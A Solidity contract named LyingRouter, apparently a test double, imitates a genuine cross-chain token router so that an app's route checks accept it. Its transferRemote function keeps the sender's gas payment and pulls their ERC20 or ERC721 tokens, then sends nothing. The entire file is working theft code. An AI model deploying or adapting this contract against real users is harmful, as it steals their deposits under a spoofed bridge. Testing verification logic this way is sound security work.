// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// No warp router: it answers every read the app checks a server route with (docs/routes.md, "Anchoring a
/// server route") as a genuine router the trusted owner owns would, and keeps whatever is sent through it.
/// `token` zero: it is its own token (a synthetic router); else it wraps `token`, an ERC20 or an ERC721.
contract LyingRouter {
    address public immutable mailbox;
    address public immutable owner;
    uint8 public immutable decimals;
    address private immutable token;
    address private immutable attacker;
    mapping(uint32 => bytes32) public routers;
    mapping(uint32 => uint256) public quoteGasPayment;

    constructor(address mailbox_, address owner_, address proxyAdmin, address token_, uint8 decimals_) {
        (mailbox, owner, token, decimals, attacker) = (mailbox_, owner_, token_, decimals_, msg.sender);
        // EIP-1967's admin slot, as a proxy keeps it: the app reads it, then the admin's owner.
        assembly { sstore(0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103, proxyAdmin) }
    }

    /// The router "enrolled" for `domain`, and the interchain gas it quotes for it.
    function enroll(uint32 domain, bytes32 router, uint256 quote) external {
        require(msg.sender == attacker);
        (routers[domain], quoteGasPayment[domain]) = (router, quote);
    }

    function interchainSecurityModule() external pure returns (address) { return address(0); }
    function hook() external pure returns (address) { return address(0); }
    function wrappedToken() external view returns (address) { return token == address(0) ? address(this) : token; }
    function balanceOf(address) external pure returns (uint256) { return 0; }

    /// Takes the gas payment, and a collateral's tokens (ERC20 amount or ERC721 id: `transferFrom` has one
    /// selector for both), and sends nothing anywhere.
    function transferRemote(uint32 destination, bytes32, uint256 amountOrId) external payable returns (bytes32) {
        require(routers[destination] != bytes32(0), "No router enrolled for domain");
        require(msg.value >= quoteGasPayment[destination], "insufficient interchain gas payment");
        if (token != address(0)) {
            (bool ok, bytes memory data) =
                token.call(abi.encodeWithSelector(0x23b872dd, msg.sender, address(this), amountOrId));
            require(ok && (data.length == 0 || abi.decode(data, (bool))), "transferFrom failed");
        }
        return keccak256(abi.encode(block.number, msg.sender, destination, amountOrId));
    }
}
